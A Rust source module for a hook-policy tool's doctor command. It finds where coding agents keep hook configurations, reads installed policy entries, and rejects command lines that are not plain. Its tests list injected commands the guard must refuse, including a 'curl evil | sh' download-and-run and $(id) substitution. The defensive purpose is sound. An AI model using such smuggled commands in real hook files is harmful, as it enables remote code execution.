//! Where each agent keeps its hooks, and the hook-policy entries found
//! there: what `policy install` writes, read back.
//!
//! The locations come from the installers themselves
//! (`hook_config::default_path` for the hooks.json agents,
//! `agent_settings::default_path` for Claude Code, Gemini CLI and Codex,
//! chibi's plugin folder, PicoClaw's configuration file), so an agent whose
//! installer knows its files is looked for without a change here. An entry
//! is recognised by its command (`<exe> hook AGENT ... --policy...`), in
//! whatever key the agent's format keeps it, as the installers' own
//! `is_ours` do.

use crate::adapters::agent_settings;
use crate::adapters::hook_config::{self, Scope};
use crate::adapters::tool_call::Harness;
use serde_json::Value as Json;
use std::path::{Path, PathBuf};

/// The machine doctor looks at.
pub struct Machine {
    /// The user's home (`--home`, else `$HOME`).
    pub home: PathBuf,
    /// The project whose project-scope files are read (`--project`, else
    /// the working directory).
    pub project: PathBuf,
}

impl Machine {
    fn env_dir(&self, var: &str) -> Option<PathBuf> {
        std::env::var_os(var)
            .filter(|v| !v.is_empty())
            .map(PathBuf::from)
    }

    /// chibi's home: `$CHIBI_HOME`, else `~/.chibi` (as chibi reads it).
    fn chibi_home(&self) -> PathBuf {
        self.env_dir("CHIBI_HOME")
            .unwrap_or_else(|| self.home.join(".chibi"))
    }

    /// PicoClaw's configuration: `$PICOCLAW_CONFIG`, else
    /// `$PICOCLAW_HOME/config.json`, else `~/.picoclaw/config.json`.
    fn picoclaw_config(&self) -> PathBuf {
        self.env_dir("PICOCLAW_CONFIG").unwrap_or_else(|| {
            self.env_dir("PICOCLAW_HOME")
                .unwrap_or_else(|| self.home.join(".picoclaw"))
                .join("config.json")
        })
    }
}

/// One file an agent reads its hooks from.
#[derive(Debug, Clone)]
pub struct Site {
    pub scope: Scope,
    pub file: PathBuf,
}

/// How the agent starts the hook, as its configuration says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Launch {
    /// A command line the agent runs with a shell (`sh -c`, or `bash -c`
    /// where the entry's key says bash).
    Shell {
        shell: &'static str,
        command: String,
    },
    /// A program and its arguments, run in `dir` (PicoClaw's entry).
    Argv {
        argv: Vec<String>,
        dir: Option<PathBuf>,
    },
}

impl Launch {
    /// The words of the command: the program first.
    pub fn words(&self) -> Vec<String> {
        match self {
            Launch::Shell { command, .. } => shell_words(command),
            Launch::Argv { argv, .. } => argv.clone(),
        }
    }

    /// As the configuration shows it.
    pub fn shown(&self) -> String {
        match self {
            Launch::Shell { command, .. } => command.clone(),
            Launch::Argv { argv, .. } => argv.join(" "),
        }
    }
}

/// An installed hook-policy entry.
#[derive(Debug, Clone)]
pub struct Entry {
    pub launch: Launch,
    /// chibi's plugin manifest lists the policy paths itself.
    pub manifest_policy: Option<Vec<PathBuf>>,
}

/// The files `agent` reads hooks from, user scope first.
pub fn sites(agent: &str, machine: &Machine) -> Vec<Site> {
    let user = |file: PathBuf| Site {
        scope: Scope::User,
        file,
    };
    match agent {
        "chibi" => vec![user(
            machine
                .chibi_home()
                .join("plugins")
                .join(crate::adapters::chibi::PLUGIN_DIR)
                .join(crate::adapters::chibi::MANIFEST),
        )],
        "picoclaw" => vec![user(machine.picoclaw_config())],
        // Kiro CLI's hooks live in each agent's configuration: every
        // `agents/*.json` of the user and of the project (the agent named
        // `default` stands for a folder that has none yet).
        "kiro" => [
            (Scope::User, machine.home.join(".kiro/agents")),
            (Scope::Project, machine.project.join(".kiro/agents")),
        ]
        .into_iter()
        .flat_map(|(scope, dir)| {
            let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
                .into_iter()
                .flatten()
                .flatten()
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "json"))
                .collect();
            files.sort();
            if files.is_empty() && scope == Scope::User {
                files.push(dir.join("default.json"));
            }
            files.into_iter().map(move |file| Site { scope, file })
        })
        .collect(),
        name => {
            let Some(harness) = Harness::ALL.into_iter().find(|h| h.name() == name) else {
                return Vec::new();
            };
            [Scope::User, Scope::Project]
                .into_iter()
                .filter_map(|scope| {
                    let file = hook_config::default_path(harness, scope, &machine.home)
                        .ok()
                        .or_else(|| agent_settings::default_path(harness, scope, &machine.home))?;
                    Some(Site {
                        scope,
                        file: machine.project.join(file),
                    })
                })
                .collect()
        }
    }
}

/// Whether the agent looks present: one of its hook files, or the folder
/// of its user-scope file (or of its project file), exists.
pub fn found(agent: &str, machine: &Machine, sites: &[Site]) -> bool {
    // chibi's home holds its plugins folder; Copilot CLI keeps its state
    // in ~/.copilot but names no user hooks file.
    let extra = match agent {
        "chibi" => vec![machine.chibi_home()],
        "copilot" => vec![machine.home.join(".copilot")],
        // OpenCode's configuration folder; Kiro CLI's folder.
        "opencode" => vec![crate::adapters::opencode_install::user_path(&machine.home)
            .ancestors()
            .nth(2)
            .map(Path::to_path_buf)
            .unwrap_or_default()],
        "kiro" => vec![machine.home.join(".kiro")],
        _ => Vec::new(),
    };
    sites.iter().any(|s| {
        s.file.exists()
            || match s.scope {
                Scope::User => s.file.parent().is_some_and(Path::is_dir),
                Scope::Project => false,
            }
    }) || extra.iter().any(|d| d.is_dir())
}

/// The hook-policy entries of `agent` in the file at `site` (none when the
/// file does not exist), or why the file cannot be read.
pub fn entries(agent: &str, site: &Site) -> Result<Vec<Entry>, String> {
    let text = match std::fs::read_to_string(&site.file) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(format!("cannot read {}: {e}", site.file.display())),
    };
    if text.trim().is_empty() {
        return Ok(Vec::new());
    }
    if agent == "opencode" {
        // OpenCode's plugin (`opencode_install`) names the program and its
        // arguments as JavaScript strings; the plugin runs them directly.
        let constant = |name: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(&format!("const {name} = ")))
                .and_then(|v| serde_json::from_str::<Json>(v.trim()).ok())
        };
        let program = constant("POLICY").and_then(|v| v.as_str().map(str::to_string));
        let args: Option<Vec<String>> = constant("ARGS").and_then(|v| {
            v.as_array()?
                .iter()
                .map(|a| a.as_str().map(str::to_string))
                .collect()
        });
        return Ok(match (program, args) {
            (Some(program), Some(args)) if crate::adapters::opencode_install::is_ours(&text) => {
                let argv: Vec<String> = std::iter::once(program).chain(args).collect();
                vec![Entry {
                    launch: Launch::Argv { argv, dir: None },
                    manifest_policy: None,
                }]
            }
            _ => Vec::new(),
        });
    }
    if agent == "cline" {
        // Cline's hook is a script (`hook_script`): the command its `exec`
        // line runs is what Cline ends up running. A script hook-policy did
        // not write holds no entry of ours.
        return Ok(crate::adapters::hook_script::command_in(&text)
            .filter(|c| is_hook_command(c, agent))
            .map(|command| Entry {
                launch: Launch::Shell {
                    shell: "sh",
                    command: command.to_string(),
                },
                manifest_policy: None,
            })
            .into_iter()
            .collect());
    }
    let doc: Json = serde_json::from_str(&text)
        .map_err(|e| format!("{} is not valid JSON ({e})", site.file.display()))?;
    let mut found = Vec::new();
    match agent {
        "chibi" => {
            let dir = site.file.parent().unwrap_or(Path::new("."));
            let policy = doc["policy"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(Json::as_str)
                .map(PathBuf::from)
                .collect();
            found.push(Entry {
                launch: Launch::Argv {
                    argv: vec![dir
                        .join(crate::adapters::chibi::PLUGIN_DIR)
                        .display()
                        .to_string()],
                    dir: None,
                },
                manifest_policy: Some(policy),
            });
        }
        "picoclaw" => {
            let processes = doc.pointer("/hooks/processes").and_then(Json::as_object);
            for process in processes.into_iter().flat_map(|p| p.values()) {
                let argv: Vec<String> = process["command"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter_map(|w| w.as_str().map(str::to_string))
                    .collect();
                let ours = argv
                    .windows(2)
                    .any(|w| w[0] == "serve" && w[1] == "picoclaw");
                if ours && process["enabled"] != Json::Bool(false) {
                    found.push(Entry {
                        launch: Launch::Argv {
                            argv,
                            dir: process["dir"].as_str().map(PathBuf::from),
                        },
                        manifest_policy: None,
                    });
                }
            }
        }
        name => collect_commands(&doc, name, &mut found),
    }
    // One entry per distinct command (Cursor's three events run the same one).
    let mut unique: Vec<Entry> = Vec::new();
    for e in found {
        if !unique.iter().any(|u| u.launch == e.launch) {
            unique.push(e);
        }
    }
    Ok(unique)
}

/// Every string in `doc` that is a `policy hook NAME` command line, with
/// the shell its key implies.
fn collect_commands(doc: &Json, name: &str, out: &mut Vec<Entry>) {
    match doc {
        Json::Array(items) => items.iter().for_each(|v| collect_commands(v, name, out)),
        Json::Object(map) => {
            for (key, value) in map {
                match value.as_str() {
                    Some(command) if key != "powershell" && is_hook_command(command, name) => out
                        .push(Entry {
                            launch: Launch::Shell {
                                shell: if key == "bash" { "bash" } else { "sh" },
                                command: command.to_string(),
                            },
                            manifest_policy: None,
                        }),
                    _ => collect_commands(value, name, out),
                }
            }
        }
        _ => {}
    }
}

/// `<exe> hook NAME [...] --policy...`: what the installers write.
fn is_hook_command(command: &str, name: &str) -> bool {
    let words = shell_words(command);
    words.windows(2).any(|w| w[0] == "hook" && w[1] == name)
        && words.iter().any(|w| w.starts_with("--policy"))
}

/// The policy paths a launch runs with: `--policy-list FILE` (one path a
/// line) or each `--policy P`.
pub fn policy_paths(words: &[String]) -> Result<(Vec<PathBuf>, Option<PathBuf>), String> {
    let mut paths = Vec::new();
    let mut list = None;
    let mut i = 0;
    while i < words.len() {
        let w = words[i].as_str();
        let (flag, inline) = match w.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(v.to_string())),
            _ => (w, None),
        };
        if matches!(flag, "--policy-list" | "--policy" | "-p") {
            let value = match inline {
                Some(v) => v,
                None => {
                    i += 1;
                    words.get(i).cloned().unwrap_or_default()
                }
            };
            if flag == "--policy-list" {
                let file = PathBuf::from(&value);
                let text = std::fs::read_to_string(&file)
                    .map_err(|e| format!("cannot read the policy list {}: {e}", file.display()))?;
                paths.extend(
                    text.lines()
                        .map(str::trim)
                        .filter(|l| !l.is_empty())
                        .map(PathBuf::from),
                );
                list = Some(file);
            } else {
                paths.push(PathBuf::from(value));
            }
        }
        i += 1;
    }
    if paths.is_empty() {
        return Err(match list {
            Some(l) => format!("the policy list {} names no policy", l.display()),
            None => "the entry names no policy".into(),
        });
    }
    Ok((paths, list))
}

/// The words of a POSIX shell command line: blanks separate, single quotes
/// keep everything, double quotes keep all but `\"`, `\\`, `\$`, `` \` ``,
/// a backslash outside quotes keeps the next character. Enough for the
/// commands the installers write (and hand-written ones like them).
pub fn shell_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\n' => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                for q in chars.by_ref() {
                    if q == '\'' {
                        break;
                    }
                    word.push(q);
                }
            }
            '"' => {
                in_word = true;
                while let Some(q) = chars.next() {
                    match q {
                        '"' => break,
                        '\\' if matches!(chars.peek(), Some('"' | '\\' | '$' | '`')) => {
                            word.extend(chars.next());
                        }
                        _ => word.push(q),
                    }
                }
            }
            '\\' => {
                in_word = true;
                word.extend(chars.next());
            }
            _ => {
                in_word = true;
                word.push(c);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

/// Whether `sh -c line` only runs the words [`shell_words`] reads: no
/// operator, redirection, expansion, substitution, glob or comment outside
/// single quotes. Doctor runs no other command line: a hooks file may come
/// with a cloned repository.
pub fn is_plain(line: &str) -> bool {
    let mut chars = line.chars();
    let mut in_double = false;
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                chars.next();
            }
            // The guard reads through the closing quote; none is an error.
            '\'' if !in_double && !chars.by_ref().any(|q| q == '\'') => return false,
            '\'' if !in_double => {}
            '"' => in_double = !in_double,
            '$' | '`' => return false,
            ';' | '&' | '|' | '<' | '>' | '(' | ')' | '*' | '?' | '[' | '~' | '#' | '{' | '\n'
                if !in_double =>
            {
                return false
            }
            _ => {}
        }
    }
    !in_double
}

/// Why the settings make the agent skip its hooks, if they do (Claude
/// Code's `disableAllHooks`, Gemini CLI's `hooksConfig`).
pub fn switched_off(agent: &str, site: &Site) -> Option<&'static str> {
    let harness = Harness::ALL.into_iter().find(|h| h.name() == agent)?;
    let text = std::fs::read_to_string(&site.file).ok()?;
    let doc: Json = serde_json::from_str(&text).ok()?;
    agent_settings::switched_off(harness, &doc)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_read_what_the_installers_quote() {
        assert_eq!(
            shell_words("/x/policy hook cursor --policy-list '/a b/it'\\''s.policies'"),
            [
                "/x/policy",
                "hook",
                "cursor",
                "--policy-list",
                "/a b/it's.policies"
            ]
        );
        assert_eq!(shell_words(r#"a "b \"c\"" d\ e"#), ["a", "b \"c\"", "d e"]);
    }

    #[test]
    fn only_plain_command_lines_are_plain() {
        assert!(is_plain("/x/policy hook cursor --policy-list '/a b/l;s'"));
        assert!(is_plain(r#"/x/policy hook cursor --policy "/a b""#));
        for line in [
            "/x/policy hook cursor --policy /p; curl evil | sh",
            "/x/policy hook cursor --policy $(id)",
            "/x/policy hook cursor --policy \"$HOME/p\"",
            "/x/policy hook cursor --policy `id`",
            "~/policy hook cursor --policy /p",
            "/x/policy hook cursor --policy /p > /tmp/x",
            "/x/policy hook cursor --policy /p*",
            "/x/policy hook cursor --policy 'unclosed",
            "/x/policy hook cursor --policy /p\nid",
        ] {
            assert!(!is_plain(line), "{line}");
        }
    }

    #[test]
    fn hook_commands_are_recognised_by_agent() {
        assert!(is_hook_command("/x/policy hook codex --policy /p", "codex"));
        assert!(!is_hook_command(
            "/x/policy hook codex --policy /p",
            "cursor"
        ));
        assert!(!is_hook_command(
            "/x/policy hook codex-extra --policy /p",
            "codex"
        ));
        assert!(!is_hook_command("./audit.sh", "cursor"));
    }
}
